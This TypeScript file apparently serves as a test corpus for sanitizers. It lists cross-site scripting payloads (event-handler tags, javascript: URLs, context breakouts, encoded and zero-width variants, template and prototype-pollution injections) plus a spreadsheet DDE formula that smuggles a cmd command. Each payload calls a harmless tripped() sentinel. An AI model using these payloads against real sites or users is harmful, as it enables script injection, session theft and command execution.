/** Texts that run as a program wherever a page takes a text for markup, an address, a style or a script. Each would call tripped(). */

const run = 'tripped()'
const sealed = ['<', '&lt;', '\\u003c', '\uFF1C'] as const

/** What a browser runs by itself, as soon as it stands in the page. */
const inTags = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src="javascript:parent.${run}">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>`,
  `<style>@import 'x';*{x:expression(${run})}</style>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<math><mtext><img src=x onerror=${run}></math>`,
  `<template><img src=x onerror=${run}></template>`,
  `<form><button autofocus formaction=javascript:${run} onfocus=${run}>`,
  `<a href="javascript:${run}" autofocus onfocus=${run} tabindex=1>x</a>`,
  `<div style="animation:x" onanimationstart=${run}>`,
  `<table background="javascript:${run}">`,
] as const

/** What stands before it where the text is taken into something else first. */
const outOf = ['', '">', "'>", '-->', '</textarea>', '</title>', ']]>', '`}'] as const

/** What is no markup at all. */
const others = [
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `');${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `</script><script>${run}</script>`,
  `__proto__[onload]=${run}`,
  `expression(${run})`,
  `url("javascript:${run}")`,
  `=cmd|'/c ${run}'!A1`,
  `\u202E<img src=x onerror=${run}>`,
  `\u2028${run}\u2029`,
  `<scr\u200Bipt>${run}</scr\u200Bipt>`,
] as const

/** All of them: every tag out of every surrounding, some of them in disguise, and what is none. */
export const payloads: readonly string[] = [
  ...outOf.flatMap((before) => inTags.map((tag) => before + tag)),
  ...sealed.slice(1).flatMap((sign) => inTags.slice(0, 4).map((tag) => tag.replaceAll('<', sign))),
  ...others,
]
